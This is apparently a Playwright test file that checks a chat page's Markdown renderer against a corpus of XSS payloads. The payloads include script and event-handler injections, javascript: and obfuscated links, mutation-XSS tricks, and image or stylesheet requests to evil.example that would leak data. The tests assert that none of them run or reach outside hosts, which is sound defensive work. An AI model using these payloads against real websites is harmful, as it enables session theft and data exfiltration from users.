"""What a model may say and a page must not do: a corpus of attacks through the real renderer in a real browser."""

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.chat.conftest import Case
from tests.chat.test_page import answers, ask, browser, logged_in, open_chat, open_page, pytestmark  # noqa: F401

ATTACKS = [
    "<script>boom()</script>",
    "<img src=x onerror=boom()>",
    "<svg onload=boom()><animate onbegin=boom() attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.boom()</script>"></iframe>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=boom()&gt;'>",
    "<a href=javascript:boom()>x</a><form action=javascript:boom()><button>x</button></form>",
    "<style>@import 'http://evil.example/x.css';</style><base href=//evil.example/>",
    "<details open ontoggle=boom()><summary>x</summary></details><video><source onerror=boom()></video>",
    "[x](javascript:boom())",
    "[x](JaVaScRiPt:boom())",
    "[x](java\tscript:boom())",
    "[x](&#106;avascript:boom())",
    "[x](javascript&colon;boom())",
    "[x](\x01javascript:boom())",
    "[x](vbscript:boom()) [y](data:text/html,<script>boom()</script>) [z](file:///etc/passwd)",
    "[x](//evil.example/a) [y](/admin/logout/) [z](blob:http://x/y)",
    "![x](http://evil.example/pixel.png?secret) ![y](javascript:boom()) ![z](data:image/svg+xml,<svg onload=boom()>)",
    '![" onerror="boom()](http://evil.example/a.png "\\" onload=\\"boom()")',
    "[a]: javascript:boom()\n\n[x][a] ![y][a]",
    '<javascript:boom()> <http://ok.example/" onclick="boom()>',
    'http://ok.example/"onmouseover=boom()// https://ok.example/<script>boom()</script>',
    '[x](http://ok.example/"onclick="boom() "title\\" onclick=\\"boom()")',
    '```html"><script>boom()</script>\n<script>boom()</script>\n```',
    "```js onclick=boom() class=x\n</code></pre><script>boom()</script>\n```",
    "```javascript\nconst a = '<img src=x onerror=boom()>';\n```",
    "`<img src=x onerror=boom()>` **<b onclick=boom()>**",
    "| <img src=x onerror=boom()> | b |\n|---|:-:|\n| [x](javascript:boom()) | <script>boom()</script> |",
    "> <script>boom()</script>\n> - <img src=x onerror=boom()>",
    "&lt;script&gt;boom()&lt;/script&gt; &#60;img src=x onerror=boom()&#62;",
    '<noscript><p title="</noscript><img src=x onerror=boom()>">',
    "<x-y style=behavior:url(x)><isindex type=image src=1 onerror=boom()>",
    "<div id=chat-data>{}</div><input name=attributes><form id=composer>",
    "[" * 500 + "x" + "](http://a)" * 500,
    "*" * 3000 + "_a_" * 1000,
    "\u202ehttp://evil.example/\u202c \ud83d\ude00 \x00 \ufeff",
]

RENDER = """async (attacks) => {
  const { MarkdownView } = await import("/static/js/markdown.js");
  globalThis.booms = 0;
  globalThis.boom = () => { globalThis.booms += 1; };
  const found = [];
  const allowed = new Set(("a blockquote br code del em h1 h2 h3 h4 h5 h6 hr li ol p pre s strong table tbody td th "
    + "thead tr ul div span button").split(" "));
  const attributes = new Set("href title class start target rel tabindex aria-label type".split(" "));
  for (const attack of attacks) {
    const box = document.createElement("div");
    document.body.append(box);
    const view = new MarkdownView(box, { code: "Code", copy: "Copy", copied: "Copied" });
    const step = Math.max(1, Math.ceil(attack.length / 6));
    for (let end = 1; end < attack.length; end += step) view.update(attack.slice(0, end), false);
    view.update(attack, true);
    await new Promise((resolve) => setTimeout(resolve, 30));
    for (const element of box.querySelectorAll("*")) {
      const told = `${attack.slice(0, 60)} -> ${element.outerHTML.slice(0, 200)}`;
      if (!allowed.has(element.localName)) found.push(told);
      for (const { name, value } of element.attributes) {
        if (!attributes.has(name)) found.push(told);
        if (name === "href" && !/^(https?:|mailto:)/i.test(value)) found.push(told);
        if (name === "href" && (element.target !== "_blank" || !element.rel.includes("noopener"))) found.push(told);
      }
      for (const kind of ["click", "mouseover"]) {
        element.dispatchEvent(new MouseEvent(kind, { bubbles: false, cancelable: true, view: null }));
      }
    }
    box.remove();
  }
  return { found, booms: globalThis.booms };
}"""


@pytest.fixture
def quiet_page(open_page: Callable[..., Page]) -> Iterator[tuple[Page, list[str]]]:  # noqa: F811
    """A page, and every address it asked for elsewhere."""
    page = open_page("/admin/chat/conversation/")
    elsewhere: list[str] = []
    page.on("request", lambda request: elsewhere.append(request.url) if "127.0.0.1" not in request.url else None)
    yield page, elsewhere


def test_no_attack_does_anything(quiet_page: tuple[Page, list[str]]) -> None:
    page, elsewhere = quiet_page
    page.evaluate("document.addEventListener('click', (event) => event.preventDefault(), true)")
    told = page.evaluate(RENDER, ATTACKS)
    assert told == {"found": [], "booms": 0}
    assert elsewhere == []


def test_what_markdown_can_say_is_shown(quiet_page: tuple[Page, list[str]]) -> None:
    page, _elsewhere = quiet_page
    html = page.evaluate(
        """async (text) => {
          const { MarkdownView } = await import("/static/js/markdown.js");
          const box = document.createElement("div");
          const view = new MarkdownView(box, { code: "Code", copy: "Copy", copied: "Copied" });
          view.update(text.slice(0, 20), false);
          const first = box.firstElementChild;
          view.update(text, true);
          if (box.firstElementChild !== first) throw new Error("a block that is done was drawn again");
          await new Promise((resolve) => setTimeout(resolve, 300));
          return box.innerHTML;
        }""",
        "# Title\n\nA **bold** https://ok.example/a_b_c word\nand a line\n\n1. one\n   - two\n\n> said\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f(): return 'x'\n```\n\n![chart](https://ok.example/c.png)",
    )
    for part in (
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        'href="https://ok.example/a_b_c"',
        "word<br>",
        "<ol>",
        "<blockquote>",
        "<td>2</td>",
        '<span class="hljs-keyword">def</span>',
        '<a href="https://ok.example/c.png" target="_blank" rel="noopener noreferrer nofollow">chart</a>',
    ):
        assert part in html, html


def test_an_attack_through_the_whole_way(case: Callable[..., Case], open_chat: Callable[..., Page]) -> None:  # noqa: F811
    page = open_chat(case("echoes"))
    page.evaluate("globalThis.boom = () => { document.title = 'boom'; }")
    ask(page, "<img src=x onerror=boom()> [x](javascript:boom()) **fine**")
    expect(answers(page)).to_have_attribute("data-state", "complete")
    expect(answers(page).locator("strong")).to_have_text("fine")
    assert page.locator(".turn-text").locator("img, a").count() == 0
    assert page.title() != "boom"
